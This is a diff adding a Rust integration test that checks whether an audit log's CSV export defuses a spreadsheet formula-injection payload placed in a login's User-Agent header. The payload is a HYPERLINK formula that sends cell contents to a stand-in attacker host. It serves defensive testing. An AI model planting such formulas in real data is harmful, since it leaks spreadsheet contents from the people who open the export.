@@ -612,3 +612,61 @@ async fn exports_stream_every_page_and_are_audited() {
         .assert_error(403, "forbidden");
     app.stop().await;
 }
+
+/// A sign-in with a formula as its User-Agent must not become a live formula in the admin's
+/// spreadsheet: the CSV export defuses it (JSON Lines keeps it exactly).
+#[tokio::test]
+async fn csv_export_defuses_spreadsheet_formulas() {
+    let app = TestApp::start().await;
+    app.register("admin@example.com").await;
+    let (admin, _) = app.login("admin@example.com", PASSWORD).await;
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Open")"#;
+    let failed = app
+        .client
+        .post(app.url("/api/v1/auth/login"))
+        .header("user-agent", formula)
+        .json(&json!({"email": "nobody@example.com", "password": "whatever it is"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(failed.status(), StatusCode::UNAUTHORIZED);
+
+    let csv = app
+        .client
+        .get(app.url("/api/v1/admin/audit/export?format=csv&action=auth.login"))
+        .bearer_auth(&admin)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let line = csv
+        .split_terminator("\r\n")
+        .find(|l| l.contains("HYPERLINK"))
+        .unwrap_or_else(|| panic!("no entry with the user agent: {csv}"));
+    assert!(
+        line.contains(r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")","#),
+        "{line}"
+    );
+    assert!(!line.contains(",=HYPERLINK"), "{line}");
+
+    let jsonl = app
+        .client
+        .get(app.url("/api/v1/admin/audit/export?format=jsonl&action=auth.login"))
+        .bearer_auth(&admin)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        jsonl
+            .lines()
+            .map(|l| serde_json::from_str::<Value>(l).unwrap())
+            .any(|e| e["user_agent"] == formula),
+        "{jsonl}"
+    );
+    app.stop().await;
+}
